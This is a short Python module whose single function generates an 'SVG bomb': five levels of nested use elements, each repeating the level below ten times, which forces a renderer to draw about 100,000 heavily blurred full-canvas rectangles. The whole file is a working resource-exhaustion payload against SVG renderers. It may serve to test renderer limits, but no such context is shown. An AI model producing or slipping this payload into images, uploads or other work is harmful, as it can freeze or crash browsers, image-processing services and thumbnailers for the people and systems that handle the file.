"""A small drawing that takes forever to draw."""


def svg_bomb() -> bytes:
    """Blurs drawn through blurs: each level repeats the one below ten times."""
    uses = "".join(
        f'<g id="l{level}">' + f'<use href="#l{level - 1}" x="1"/>' * 10 + "</g>"
        for level in range(1, 6)
    )
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="1500" height="1500">'
        '<filter id="f"><feGaussianBlur stdDeviation="40"/></filter><defs>'
        f'<g id="l0"><rect width="1500" height="1500" filter="url(#f)"/></g>{uses}</defs>'
        '<use href="#l5"/></svg>'
    ).encode()
